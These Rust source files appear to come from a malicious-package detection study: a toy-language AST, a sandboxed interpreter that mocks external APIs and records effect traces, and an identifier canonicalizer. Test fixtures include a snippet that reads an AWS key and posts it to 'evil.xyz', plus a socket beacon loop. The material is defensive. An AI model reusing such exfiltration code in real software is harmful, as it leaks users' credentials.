        /// Base expression.
        value: Box<Expr>,
        /// Index expression.
        index: Box<Expr>,
    },
    /// `lhs op rhs`.
    Binary {
        /// Operator.
        op: BinOp,
        /// Left operand.
        lhs: Box<Expr>,
        /// Right operand.
        rhs: Box<Expr>,
    },
    /// `op operand`.
    Unary {
        /// Operator.
        op: UnaryOp,
        /// Operand.
        operand: Box<Expr>,
    },
    /// `[a, b, …]`.
    List(Vec<Expr>),
    /// `{k: v, …}`.
    Dict(Vec<(Expr, Expr)>),
}

impl Expr {
    /// Convenience constructor for a name reference.
    pub fn name(s: impl Into<String>) -> Expr {
        Expr::Name(s.into())
    }

    /// Convenience constructor for a string literal.
    pub fn str(s: impl Into<String>) -> Expr {
        Expr::Str(s.into())
    }

    /// Convenience constructor for `base.attr`.
    pub fn attr(base: Expr, attr: impl Into<String>) -> Expr {
        Expr::Attribute {
            value: Box::new(base),
            attr: attr.into(),
        }
    }

    /// Convenience constructor for a call.
    pub fn call(callee: Expr, args: Vec<Expr>) -> Expr {
        Expr::Call {
            callee: Box::new(callee),
            args,
        }
    }

    /// Convenience constructor for `module.func(args…)` call chains.
    pub fn mcall(module: &str, func: &str, args: Vec<Expr>) -> Expr {
        Expr::call(Expr::attr(Expr::name(module), func), args)
    }

    /// Number of AST nodes in this expression, inclusive.
    pub fn node_count(&self) -> usize {
        match self {
            Expr::Name(_)
            | Expr::Str(_)
            | Expr::Int(_)
            | Expr::Float(_)
            | Expr::Bool(_)
            | Expr::NoneLit => 1,
            Expr::Call { callee, args } => {
                1 + callee.node_count() + args.iter().map(Expr::node_count).sum::<usize>()
            }
            Expr::Attribute { value, .. } => 1 + value.node_count(),
            Expr::Index { value, index } => 1 + value.node_count() + index.node_count(),
            Expr::Binary { lhs, rhs, .. } => 1 + lhs.node_count() + rhs.node_count(),
            Expr::Unary { operand, .. } => 1 + operand.node_count(),
            Expr::List(items) => 1 + items.iter().map(Expr::node_count).sum::<usize>(),
            Expr::Dict(pairs) => {
                1 + pairs
                    .iter()
                    .map(|(k, v)| k.node_count() + v.node_count())
                    .sum::<usize>()
            }
        }
    }

    /// A short label naming the node kind, used for AST-path embeddings.
    pub fn kind(&self) -> &'static str {
        match self {
            Expr::Name(_) => "Name",
            Expr::Str(_) => "Str",
            Expr::Int(_) => "Int",
            Expr::Float(_) => "Float",
            Expr::Bool(_) => "Bool",
            Expr::NoneLit => "None",
            Expr::Call { .. } => "Call",
            Expr::Attribute { .. } => "Attribute",
            Expr::Index { .. } => "Index",
            Expr::Binary { .. } => "Binary",
            Expr::Unary { .. } => "Unary",
            Expr::List(_) => "List",
            Expr::Dict(_) => "Dict",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn node_count_counts_inclusively() {
        // x = a + b  →  Assign + Name + (Binary + Name + Name) = 5
        let stmt = Stmt::Assign {
            target: Expr::name("x"),
            value: Expr::Binary {
                op: BinOp::Add,
                lhs: Box::new(Expr::name("a")),
                rhs: Box::new(Expr::name("b")),
            },
        };
        assert_eq!(stmt.node_count(), 5);
    }

    #[test]
    fn mcall_builds_attribute_call() {
        let e = Expr::mcall("os", "getenv", vec![Expr::str("HOME")]);
        match &e {
            Expr::Call { callee, args } => {
                assert_eq!(args.len(), 1);
                match callee.as_ref() {
                    Expr::Attribute { value, attr } => {
                        assert_eq!(attr, "getenv");
                        assert_eq!(value.as_ref(), &Expr::name("os"));
                    }
                    other => panic!("expected attribute, got {other:?}"),
                }
            }
            other => panic!("expected call, got {other:?}"),
        }
    }

    #[test]
    fn precedence_ordering() {
        assert!(BinOp::Mul.precedence() > BinOp::Add.precedence());
        assert!(BinOp::Add.precedence() > BinOp::Eq.precedence());
        assert!(BinOp::Eq.precedence() > BinOp::And.precedence());
        assert!(BinOp::And.precedence() > BinOp::Or.precedence());
    }

    #[test]
    fn kinds_are_stable_labels() {
        assert_eq!(Stmt::Pass.kind(), "Pass");
        assert_eq!(Expr::NoneLit.kind(), "None");
        assert_eq!(Expr::name("x").kind(), "Name");
    }

    #[test]
    fn module_node_count_sums_statements() {
        let m = Module::new(vec![Stmt::Pass, Stmt::Pass]);
        assert_eq!(m.node_count(), 2);
    }
}
