//! A sandboxed, effect-tracing interpreter for PyLite.
//!
//! The paper's ecosystem relies on *dynamic* package analysis (sandboxes
//! in the style of OSSF package-analysis run `pip install` hooks and
//! record syscalls). This module is that substrate for the reproduction:
//! it executes a module with every external API mocked and records each
//! API touch as an [`Effect`]. The dynamic detector builds on the trace;
//! nothing ever leaves the process.
//!
//! Execution is bounded by *fuel*: a `while True:` beacon loop simply
//! exhausts its budget and the trace ends with
//! [`Outcome::FuelExhausted`] — still carrying every effect observed.

use crate::ast::{BinOp, Expr, Module, Stmt, UnaryOp};
use std::collections::HashMap;
use std::fmt;
use std::rc::Rc;

/// A recorded external-API interaction.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Effect {
    /// Dotted API path, e.g. `requests.post` or `os.getenv`. Shared
    /// (`Rc`) because hot loops record the same path thousands of times.
    pub api: Rc<str>,
    /// Rendered argument previews (strings truncated).
    pub args: Vec<String>,
}

/// How a run ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// The module ran to completion.
    Completed,
    /// The fuel budget ran out (long/infinite loop).
    FuelExhausted,
    /// An uncaught runtime error terminated the run.
    Error,
}

/// The result of executing a module.
#[derive(Debug, Clone)]
pub struct Trace {
    /// External-API interactions in order.
    pub effects: Vec<Effect>,
    /// How the run ended.
    pub outcome: Outcome,
    /// Statements executed.
    pub steps: u64,
    /// The uncaught error when `outcome` is [`Outcome::Error`].
    pub error: Option<RuntimeError>,
}

impl Trace {
    /// Whether any recorded API starts with `prefix` (e.g. `"requests."`).
    pub fn touched(&self, prefix: &str) -> bool {
        self.effects.iter().any(|e| e.api.starts_with(prefix))
    }

    /// All APIs touched, deduplicated, in first-touch order.
    pub fn apis(&self) -> Vec<&str> {
        let mut seen: Vec<&str> = Vec::new();
        for e in &self.effects {
            if !seen.contains(&&*e.api) {
                seen.push(&e.api);
            }
        }
        seen
    }
}

/// A runtime value.
#[derive(Debug, Clone)]
pub enum Value {
    /// Integer.
    Int(i64),
    /// Float.
    Float(f64),
    /// String.
    Str(Rc<str>),
    /// Boolean.
    Bool(bool),
    /// `None`.
    NoneV,
    /// List.
    List(Rc<Vec<Value>>),
    /// Dict (association list; tiny programs, tiny dicts).
    Dict(Rc<Vec<(Value, Value)>>),
    /// A user-defined function (index into the function table).
    Func(usize),
    /// An imported module handle (`os`, `requests`, …).
    Module(Rc<str>),
    /// A bound external API (`os.getenv`); calling it records an effect.
    ExternalFn(Rc<str>),
    /// An opaque value returned by an external API (`requests.get(...)`).
    Opaque(Rc<str>),
}

impl Value {
    fn truthy(&self) -> bool {
        match self {
            Value::Int(v) => *v != 0,
            Value::Float(v) => *v != 0.0,
            Value::Str(s) => !s.is_empty(),
            Value::Bool(b) => *b,
            Value::NoneV => false,
            Value::List(items) => !items.is_empty(),
            Value::Dict(pairs) => !pairs.is_empty(),
            // Handles, functions and opaque results are truthy, like
            // Python objects.
            _ => true,
        }
    }

    fn preview(&self) -> String {
        match self {
            Value::Int(v) => v.to_string(),
            Value::Float(v) => format!("{v:.2}"),
            Value::Str(s) => {
                let mut t: String = s.chars().take(32).collect();
                if s.len() > 32 {
                    t.push('…');
                }
                format!("{t:?}")
            }
            Value::Bool(b) => b.to_string(),
            Value::NoneV => "None".into(),
            Value::List(items) => format!("[…;{}]", items.len()),
            Value::Dict(pairs) => format!("{{…;{}}}", pairs.len()),
            Value::Func(_) => "<function>".into(),
            Value::Module(m) => format!("<module {m}>"),
            Value::ExternalFn(f) => format!("<api {f}>"),
            Value::Opaque(src) => format!("<result of {src}>"),
        }
    }
}

/// An uncaught runtime error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuntimeError {
    /// Description.
    pub message: String,
}

impl fmt::Display for RuntimeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "runtime error: {}", self.message)
    }
}

impl std::error::Error for RuntimeError {}

/// Interpreter configuration.
#[derive(Debug, Clone)]
pub struct InterpConfig {
    /// Maximum statements to execute before aborting.
    pub fuel: u64,
}

impl Default for InterpConfig {
    fn default() -> Self {
        InterpConfig { fuel: 20_000 }
    }
}

/// Executes `module` in the sandbox and returns its effect trace.
///
/// Never panics on language-level misuse: type errors become
/// [`Outcome::Error`] (or are caught by `try`/`except`, the way malicious
/// install hooks silence failures).
pub fn run(module: &Module, config: &InterpConfig) -> Trace {
    let mut interp = Interp {
        fuel: config.fuel,
        steps: 0,
        effects: Vec::new(),
        functions: Vec::new(),
        globals: Env::default(),
    };
    let (outcome, error) = match interp.exec_block(&module.body, &mut Env::default(), true) {
        Ok(Flow::Normal) | Ok(Flow::Return(_)) => (Outcome::Completed, None),
        Err(Stop::Fuel) => (Outcome::FuelExhausted, None),
        Err(Stop::Error(e)) => (Outcome::Error, Some(e)),
    };
    Trace {
        effects: interp.effects,
        outcome,
        steps: interp.steps,
        error,
    }
}

enum Flow {
    Normal,
    Return(Value),
}

enum Stop {
    Fuel,
    Error(RuntimeError),
}

fn err(message: impl Into<String>) -> Stop {
    Stop::Error(RuntimeError {
        message: message.into(),
    })
}

struct FuncDef {
    params: Vec<String>,
    body: Vec<Stmt>,
}

/// FNV-1a. Variable lookup is the hottest operation in the sandbox and
/// SipHash dominates it; a fixed basis keeps hashing deterministic.
struct FastHasher(u64);

impl Default for FastHasher {
    fn default() -> Self {
        FastHasher(0xcbf2_9ce4_8422_2325)
    }
}

impl std::hash::Hasher for FastHasher {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0 ^ u64::from(b)).wrapping_mul(0x100_0000_01b3);
        }
    }
}

type Env = HashMap<String, Value, std::hash::BuildHasherDefault<FastHasher>>;

struct Interp {
    fuel: u64,
    steps: u64,
    effects: Vec<Effect>,
    // Reference-counted so `call()` can borrow a definition without
    // cloning its body while `&mut self` executes it.
    functions: Vec<Rc<FuncDef>>,
    globals: Env,
}

impl Interp {
    fn burn(&mut self) -> Result<(), Stop> {
        if self.steps >= self.fuel {
            return Err(Stop::Fuel);
        }
        self.steps += 1;
        Ok(())
    }

    fn exec_block(
        &mut self,
        stmts: &[Stmt],
        locals: &mut Env,
        global_scope: bool,
    ) -> Result<Flow, Stop> {
        for stmt in stmts {
            match self.exec_stmt(stmt, locals, global_scope)? {
                Flow::Normal => {}
                ret @ Flow::Return(_) => return Ok(ret),
            }
        }
        Ok(Flow::Normal)
    }

    fn exec_stmt(
        &mut self,
        stmt: &Stmt,
        locals: &mut Env,
        global_scope: bool,
    ) -> Result<Flow, Stop> {
        self.burn()?;
        match stmt {
            Stmt::Import { module, alias } => {
                let local = alias.clone().unwrap_or_else(|| {
                    module.split('.').next().unwrap_or(module).to_owned()
                });
                let value = Value::Module(Rc::from(module.as_str()));
                self.bind(&local, value, locals, global_scope);
                Ok(Flow::Normal)
            }
            Stmt::FromImport {
                module,
                name,
                alias,
            } => {
                let local = alias.clone().unwrap_or_else(|| name.clone());
                let value = Value::ExternalFn(Rc::from(format!("{module}.{name}").as_str()));
                self.bind(&local, value, locals, global_scope);
                Ok(Flow::Normal)
            }
            Stmt::Assign { target, value } => {
                let value = self.eval(value, locals)?;
                match target {
                    Expr::Name(name) => {
                        self.bind(name, value, locals, global_scope);
                    }
                    // Attribute/index stores on mocks are effects too
                    // (e.g. `os.environ['X'] = …`), recorded and dropped.
                    Expr::Attribute { value: base, attr } => {
                        let base = self.eval(base, locals)?;
                        self.effects.push(Effect {
                            api: Rc::from(format!("{}.{attr}=", external_name(&base)).as_str()),
                            args: vec![],
                        });
                    }
                    Expr::Index { value: base, .. } => {
                        let _ = self.eval(base, locals)?;
                    }
                    _ => return Err(err("unsupported assignment target")),
                }
                Ok(Flow::Normal)
            }
            Stmt::Expr(e) => {
                let _ = self.eval(e, locals)?;
                Ok(Flow::Normal)
            }
            Stmt::FunctionDef { name, params, body } => {
                let idx = self.functions.len();
                self.functions.push(Rc::new(FuncDef {
                    params: params.clone(),
                    body: body.clone(),
                }));
                self.bind(name, Value::Func(idx), locals, global_scope);
                Ok(Flow::Normal)
            }
            Stmt::If { cond, body, orelse } => {
                let branch = if self.eval(cond, locals)?.truthy() {
                    body
                } else {
                    orelse
                };
                self.exec_block(branch, locals, global_scope)
            }
            Stmt::For { var, iter, body } => {
                let iterable = self.eval(iter, locals)?;
                let items: Vec<Value> = match iterable {
                    Value::List(items) => items.as_ref().clone(),
                    Value::Str(s) => s
                        .chars()
                        .map(|c| Value::Str(Rc::from(c.to_string().as_str())))
                        .collect(),
                    Value::Dict(pairs) => pairs.iter().map(|(k, _)| k.clone()).collect(),
                    // Iterating an opaque/other value yields a couple of
                    // opaque elements — enough to drive loop bodies.
                    other => vec![other.clone(), other],
                };
                for item in items {
                    self.bind(var, item, locals, global_scope);
                    match self.exec_block(body, locals, global_scope)? {
                        Flow::Normal => {}
                        ret @ Flow::Return(_) => return Ok(ret),
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::While { cond, body } => {
                while self.eval(cond, locals)?.truthy() {
                    self.burn()?;
                    match self.exec_block(body, locals, global_scope)? {
                        Flow::Normal => {}
                        ret @ Flow::Return(_) => return Ok(ret),
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::Try { body, handler } => {
                match self.exec_block(body, locals, global_scope) {
                    Ok(flow) => Ok(flow),
                    // Fuel exhaustion is not catchable.
                    Err(Stop::Fuel) => Err(Stop::Fuel),
                    Err(Stop::Error(_)) => self.exec_block(handler, locals, global_scope),
                }
            }
            Stmt::Return(value) => {
                let v = match value {
                    Some(e) => self.eval(e, locals)?,
                    None => Value::NoneV,
                };
                Ok(Flow::Return(v))
            }
            Stmt::Raise(e) => {
                let v = self.eval(e, locals)?;
                Err(err(format!("raised {}", v.preview())))
            }
            Stmt::Pass => Ok(Flow::Normal),
        }
    }

    fn bind(
        &mut self,
        name: &str,
        value: Value,
        locals: &mut Env,
        global_scope: bool,
    ) {
        let scope = if global_scope { &mut self.globals } else { locals };
        // Re-binding an existing name (every loop iteration) must not
        // re-allocate the key.
        if let Some(slot) = scope.get_mut(name) {
            *slot = value;
        } else {
            scope.insert(name.to_owned(), value);
        }
    }

    fn lookup(&self, name: &str, locals: &Env) -> Option<Value> {
        locals
            .get(name)
            .or_else(|| self.globals.get(name))
            .cloned()
    }

    fn eval(&mut self, expr: &Expr, locals: &mut Env) -> Result<Value, Stop> {
        self.burn()?;
        match expr {
            Expr::Name(name) => match self.lookup(name, locals) {
                Some(v) => Ok(v),
                // Undefined globals behave like external handles: the
                // junk helpers (`hlib_123.op_9(x)`) must be traceable.
                // Memoised in globals — the next read returns the same
                // handle instead of allocating a fresh one.
                None => {
                    let v = Value::Module(Rc::from(name.as_str()));
                    self.globals.insert(name.clone(), v.clone());
                    Ok(v)
                }
            },
            Expr::Str(s) => Ok(Value::Str(Rc::from(s.as_str()))),
            Expr::Int(v) => Ok(Value::Int(*v)),
            Expr::Float(v) => Ok(Value::Float(*v)),
            Expr::Bool(b) => Ok(Value::Bool(*b)),
            Expr::NoneLit => Ok(Value::NoneV),
            Expr::List(items) => {
                let mut out = Vec::with_capacity(items.len());
                for i in items {
                    out.push(self.eval(i, locals)?);
                }
                Ok(Value::List(Rc::new(out)))
            }
            Expr::Dict(pairs) => {
                let mut out = Vec::with_capacity(pairs.len());
                for (k, v) in pairs {
                    out.push((self.eval(k, locals)?, self.eval(v, locals)?));
                }
                Ok(Value::Dict(Rc::new(out)))
            }
            Expr::Attribute { value, attr } => {
                let base = self.eval(value, locals)?;
                match base {
                    Value::Module(m) => {
                        Ok(Value::ExternalFn(Rc::from(format!("{m}.{attr}").as_str())))
                    }
                    Value::Opaque(src) => {
                        // Reading a field of an API result (e.g.
                        // `resp.content`) is itself an observable touch.
                        let api: Rc<str> = Rc::from(format!("{src}.{attr}").as_str());
                        self.effects.push(Effect {
                            api: Rc::clone(&api),
                            args: vec![],
                        });
                        Ok(Value::Opaque(api))
                    }
                    Value::Str(_) | Value::List(_) | Value::Dict(_) => {
                        // Built-in methods (strip/lower/…): callable,
                        // pure, returns a mock of the receiver type.
                        Ok(Value::ExternalFn(Rc::from(
                            format!("builtin.{attr}").as_str(),
                        )))
                    }
                    other => Err(err(format!(
                        "no attribute {attr:?} on {}",
                        other.preview()
                    ))),
                }
            }
            Expr::Index { value, index } => {
                let base = self.eval(value, locals)?;
                let idx = self.eval(index, locals)?;
                match (base, idx) {
                    (Value::List(items), Value::Int(i)) => {
                        let i = usize::try_from(i)
                            .map_err(|_| err("negative index"))?;
                        items
                            .get(i)
                            .cloned()
                            .ok_or_else(|| err("index out of range"))
                    }
                    (Value::Dict(pairs), key) => Ok(pairs
                        .iter()
                        .find(|(k, _)| value_eq(k, &key))
                        .map(|(_, v)| v.clone())
                        .unwrap_or(Value::NoneV)),
                    (Value::Str(s), Value::Int(i)) => {
                        let i = usize::try_from(i)
                            .map_err(|_| err("negative index"))?;
                        s.chars()
                            .nth(i)
                            .map(|c| Value::Str(Rc::from(c.to_string().as_str())))
                            .ok_or_else(|| err("string index out of range"))
                    }
                    (Value::Opaque(src), _) => Ok(Value::Opaque(src)),
                    (Value::Module(m), key) => {
                        // `os.environ['AWS_KEY']`-style reads.
                        self.effects.push(Effect {
                            api: Rc::from(format!("{m}.__getitem__").as_str()),
                            args: vec![key.preview()],
                        });
                        Ok(Value::Str(Rc::from("mock-value")))
                    }
                    (base, _) => Err(err(format!("cannot index {}", base.preview()))),
                }
            }
            Expr::Binary { op, lhs, rhs } => {
                // Short-circuit logic first.
                match op {
                    BinOp::And => {
                        let l = self.eval(lhs, locals)?;
                        if !l.truthy() {
                            return Ok(l);
                        }
                        return self.eval(rhs, locals);
                    }
                    BinOp::Or => {
                        let l = self.eval(lhs, locals)?;
                        if l.truthy() {
                            return Ok(l);
                        }
                        return self.eval(rhs, locals);
                    }
                    _ => {}
                }
                let l = self.eval(lhs, locals)?;
                let r = self.eval(rhs, locals)?;
                binary_op(*op, l, r)
            }
            Expr::Unary { op, operand } => {
                let v = self.eval(operand, locals)?;
                match op {
                    UnaryOp::Not => Ok(Value::Bool(!v.truthy())),
                    UnaryOp::Neg => match v {
                        Value::Int(i) => Ok(Value::Int(-i)),
                        Value::Float(f) => Ok(Value::Float(-f)),
                        other => Err(err(format!("cannot negate {}", other.preview()))),
                    },
                }
            }
            Expr::Call { callee, args } => {
                let callee_v = self.eval(callee, locals)?;
                let mut arg_vs = Vec::with_capacity(args.len());
                for a in args {
                    arg_vs.push(self.eval(a, locals)?);
                }
                self.call(callee_v, arg_vs)
            }
        }
    }

    fn call(&mut self, callee: Value, args: Vec<Value>) -> Result<Value, Stop> {
        match callee {
            Value::Func(idx) => {
                let def = Rc::clone(&self.functions[idx]);
                if def.params.len() != args.len() {
                    return Err(err(format!(
                        "function expected {} args, got {}",
                        def.params.len(),
                        args.len()
                    )));
                }
                let mut frame: Env =
                    def.params.iter().cloned().zip(args).collect();
                match self.exec_block(&def.body, &mut frame, false)? {
                    Flow::Return(v) => Ok(v),
                    Flow::Normal => Ok(Value::NoneV),
                }
            }
            Value::ExternalFn(api) => {
                self.effects.push(Effect {
                    api: Rc::clone(&api),
                    args: args.iter().map(Value::preview).collect(),
                });
                Ok(mock_result(&api))
            }
            Value::Module(m) => {
                // Calling a module handle (`socket.socket()` resolved via
                // attribute gives ExternalFn; a bare handle call is the
                // junk-helper case) records the touch.
                self.effects.push(Effect {
                    api: Rc::from(format!("{m}.__call__").as_str()),
                    args: args.iter().map(Value::preview).collect(),
                });
                Ok(Value::Opaque(m))
            }
            Value::Opaque(src) => {
                // Calling a method read off an API result
                // (`sock.connect(...)`, `resp.json()`) is an external
                // touch under the result's dotted path.
                self.effects.push(Effect {
                    api: Rc::clone(&src),
                    args: args.iter().map(Value::preview).collect(),
                });
                Ok(Value::Opaque(src))
            }
            other => Err(err(format!("{} is not callable", other.preview()))),
        }
    }
}

fn external_name(value: &Value) -> String {
    match value {
        Value::Module(m) => m.to_string(),
        Value::ExternalFn(f) => f.to_string(),
        Value::Opaque(src) => src.to_string(),
        other => other.preview(),
    }
}

/// Mocked return values chosen so malicious code paths keep executing
/// (conditions pass, loops iterate once or twice).
fn mock_result(api: &Rc<str>) -> Value {
    match &**api {
        "os.getenv" | "clipboard.paste" | "socket.gethostname" => {
            Value::Str(Rc::from("mock-value"))
        }
        "os.environ" => Value::Dict(Rc::new(vec![(
            Value::Str(Rc::from("PATH")),
            Value::Str(Rc::from("/usr/bin")),
        )])),
        "glob.glob" => Value::List(Rc::new(vec![
            Value::Str(Rc::from("/home/user/.config/app/Login Data")),
        ])),
        "re.match" => Value::Bool(true),
        api if api.starts_with("builtin.") => Value::Str(Rc::from("mock")),
        _ => Value::Opaque(Rc::clone(api)),
    }
}

fn value_eq(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Int(x), Value::Int(y)) => x == y,
        (Value::Str(x), Value::Str(y)) => x == y,
        (Value::Bool(x), Value::Bool(y)) => x == y,
        (Value::NoneV, Value::NoneV) => true,
        _ => false,
    }
}

fn binary_op(op: BinOp, l: Value, r: Value) -> Result<Value, Stop> {
    use Value::*;
    let v = match (op, &l, &r) {
        (BinOp::Add, Int(a), Int(b)) => Int(a.wrapping_add(*b)),
        (BinOp::Sub, Int(a), Int(b)) => Int(a.wrapping_sub(*b)),
        (BinOp::Mul, Int(a), Int(b)) => Int(a.wrapping_mul(*b)),
        (BinOp::Div, Int(a), Int(b)) => {
            if *b == 0 {
                return Err(err("division by zero"));
            }
            Int(a / b)
        }
        (BinOp::Mod, Int(a), Int(b)) => {
            if *b == 0 {
                return Err(err("modulo by zero"));
            }
            Int(a % b)
        }
        (BinOp::Pow, Int(a), Int(b)) => {
            let exp = u32::try_from(*b).unwrap_or(0);
            Int(a.checked_pow(exp).unwrap_or(i64::MAX))
        }
        (BinOp::Add, Float(a), Float(b)) => Float(a + b),
        (BinOp::Sub, Float(a), Float(b)) => Float(a - b),
        (BinOp::Mul, Float(a), Float(b)) => Float(a * b),
        (BinOp::Div, Float(a), Float(b)) => Float(a / b),
        (BinOp::Add, Int(a), Float(b)) => Float(*a as f64 + b),
        (BinOp::Add, Float(a), Int(b)) => Float(a + *b as f64),
        (BinOp::Add, Str(a), Str(b)) => Str(Rc::from(format!("{a}{b}").as_str())),
        (BinOp::Eq, a, b) => Bool(value_eq(a, b)),
        (BinOp::Ne, a, b) => Bool(!value_eq(a, b)),
        (BinOp::Lt, Int(a), Int(b)) => Bool(a < b),
        (BinOp::Le, Int(a), Int(b)) => Bool(a <= b),
        (BinOp::Gt, Int(a), Int(b)) => Bool(a > b),
        (BinOp::Ge, Int(a), Int(b)) => Bool(a >= b),
        (BinOp::Lt, Float(a), Float(b)) => Bool(a < b),
        (BinOp::Gt, Float(a), Float(b)) => Bool(a > b),
        (BinOp::In, needle, List(items)) => {
            Bool(items.iter().any(|i| value_eq(i, needle)))
        }
        (BinOp::In, Str(needle), Str(hay)) => Bool(hay.contains(needle.as_ref())),
        // Mixed/opaque arithmetic degrades to an opaque value instead of
        // failing — mock data flows through without killing the trace.
        (_, Opaque(src), _) | (_, _, Opaque(src)) => Opaque(src.clone()),
        (op, l, r) => {
            return Err(err(format!(
                "unsupported operation {} between {} and {}",
                op.symbol(),
                l.preview(),
                r.preview()
            )))
        }
    };
    Ok(v)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    fn trace(src: &str) -> Trace {
        run(&parse(src).unwrap(), &InterpConfig::default())
    }

    #[test]
    fn records_network_exfiltration_effects() {
        let t = trace(
            "import os\nimport requests\nk = os.getenv('AWS_KEY')\nrequests.post('http://evil.xyz', k)\n",
        );
        assert_eq!(t.outcome, Outcome::Completed);
        assert!(t.touched("os.getenv"));
        assert!(t.touched("requests.post"));
        let post = t.effects.iter().find(|e| &*e.api == "requests.post").unwrap();
        assert!(post.args[0].contains("evil.xyz"));
        assert!(post.args[1].contains("mock-value"), "{:?}", post.args);
    }

    #[test]
    fn functions_and_control_flow_execute() {
        let t = trace(
            "def go(n):\n    if n > 1:\n        return n * go(n - 1)\n    return 1\nx = go(5)\nsend(x)\n",
        );
        assert_eq!(t.outcome, Outcome::Completed);
        // `send` is an undefined global → traced as a handle call.
        assert!(t.effects.iter().any(|e| e.api.starts_with("send")));
    }

    #[test]
    fn try_except_silences_errors_like_install_hooks() {
        let t = trace("try:\n    x = 1 / 0\nexcept:\n    pass\ny = 2\n");
        assert_eq!(t.outcome, Outcome::Completed);
        let t = trace("x = 1 / 0\n");
        assert_eq!(t.outcome, Outcome::Error);
    }

    #[test]
    fn infinite_loops_exhaust_fuel_but_keep_effects() {
        let t = run(
            &parse("import socket\ns = socket.socket()\nwhile True:\n    s.connect('h', 1)\n")
                .unwrap(),
            &InterpConfig { fuel: 500 },
        );
        assert_eq!(t.outcome, Outcome::FuelExhausted);
        assert!(t.touched("socket.socket"));
    }

    #[test]
    fn fuel_exhaustion_is_not_catchable() {
        let t = run(
            &parse("try:\n    while True:\n        pass\nexcept:\n    pass\n").unwrap(),
            &InterpConfig { fuel: 100 },
        );
        assert_eq!(t.outcome, Outcome::FuelExhausted);
    }

    #[test]
    fn generated_malware_produces_behavior_specific_traces() {
        use crate::gen::{generate, Behavior};
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(1);
        for behavior in Behavior::ALL {
            let module = generate(behavior, &mut rng);
            let t = run(&module, &InterpConfig::default());
            assert_ne!(
                t.outcome,
                Outcome::Error,
                "{behavior}: install hook must not die uncaught"
            );
            assert!(
                !t.effects.is_empty(),
                "{behavior}: the payload must leave a trace"
            );
        }
    }

    #[test]
    fn exfil_env_touches_environ_and_network() {
        use crate::gen::{generate, Behavior};
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(3);
        let module = generate(Behavior::ExfilEnv, &mut rng);
        let t = run(&module, &InterpConfig::default());
        assert!(t.touched("os.environ"));
        assert!(t.touched("requests.post"));
    }

    #[test]
    fn benign_code_stays_offline() {
        use crate::gen::generate_benign;
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(5);
        for _ in 0..5 {
            let module = generate_benign(&mut rng);
            let t = run(&module, &InterpConfig::default());
            assert!(!t.touched("requests."));
            assert!(!t.touched("socket."));
            assert!(!t.touched("subprocess."));
        }
    }

    #[test]
    fn dict_and_list_semantics() {
        let t = trace(
            "d = {'a': 1, 'b': 2}\nx = d['a']\nitems = [10, 20, 30]\ny = items[2]\nif x == 1 and y == 30:\n    probe('ok')\n",
        );
        assert_eq!(t.outcome, Outcome::Completed);
        assert!(t.effects.iter().any(|e| e.api.starts_with("probe")));
    }

    #[test]
    fn string_methods_are_mocked() {
        let t = trace("s = 'ABC'\nt = s.strip()\nu = t.lower()\n");
        assert_eq!(t.outcome, Outcome::Completed);
    }

    #[test]
    fn apis_deduplicates_in_order() {
        let t = trace("import os\na = os.getenv('X')\nb = os.getenv('Y')\nos.remove('f')\n");
        assert_eq!(t.apis(), vec!["os.getenv", "os.remove"]);
    }

    #[test]
    fn uncallable_values_error_cleanly() {
        let t = trace("x = 3\nx()\n");
        assert_eq!(t.outcome, Outcome::Error);
        let err = t.error.expect("error outcome carries the error");
        assert!(err.message.contains("not callable"), "{err}");
    }

    #[test]
    fn completed_runs_carry_no_error() {
        let t = trace("x = 1\n");
        assert_eq!(t.outcome, Outcome::Completed);
        assert!(t.error.is_none());
    }
}
