//! Alpha-renaming canonicalization.
//!
//! Attackers routinely re-release the same malware with renamed
//! identifiers; the paper's similarity pipeline must still group such
//! packages. Canonicalization rewrites every *locally defined* identifier
//! to a positional name (`v0`, `v1`, …, `f0` for functions) while leaving
//! imported module names and attribute names intact — those capture the
//! *behaviour* (which APIs the code touches) and must survive.

use crate::ast::{Expr, Module, Stmt};
use std::collections::HashMap;

/// Produces an alpha-renamed copy of `module`.
///
/// Identifiers introduced by assignment targets, `for` variables,
/// function names and parameters are renamed in first-occurrence order.
/// Imported names (both `import x` aliases and `from m import n`) keep a
/// canonical *positional* name too, but the *module path* is preserved,
/// so `import requests` and `import requests as r` canonicalize alike.
///
/// # Examples
///
/// ```
/// use minilang::{parse, canon::canonicalize, printer::print_module};
///
/// let a = canonicalize(&parse("secret = os.getenv('K')\nsend(secret)\n")?);
/// let b = canonicalize(&parse("loot = os.getenv('K')\nsend(loot)\n")?);
/// assert_eq!(print_module(&a), print_module(&b));
/// # Ok::<(), minilang::ParseErr>(())
/// ```
pub fn canonicalize(module: &Module) -> Module {
    let mut renamer = Renamer::default();
    // Pre-scan so references before definition (forward function calls)
    // rename consistently.
    for stmt in &module.body {
        renamer.scan_stmt(stmt);
    }
    Module::new(module.body.iter().map(|s| renamer.rewrite_stmt(s)).collect())
}

#[derive(Default)]
struct Renamer {
    names: HashMap<String, String>,
    var_count: usize,
    fn_count: usize,
}

impl Renamer {
    fn define_var(&mut self, name: &str) {
        if !self.names.contains_key(name) {
            let canon = format!("v{}", self.var_count);
            self.var_count += 1;
            self.names.insert(name.to_owned(), canon);
        }
    }

    fn define_fn(&mut self, name: &str) {
        if !self.names.contains_key(name) {
            let canon = format!("f{}", self.fn_count);
            self.fn_count += 1;
            self.names.insert(name.to_owned(), canon);
        }
    }

    fn rename(&self, name: &str) -> String {
        self.names.get(name).cloned().unwrap_or_else(|| name.to_owned())
    }

    fn scan_stmt(&mut self, stmt: &Stmt) {
        match stmt {
            Stmt::Import { module, alias } => {
                let local = alias.clone().unwrap_or_else(|| {
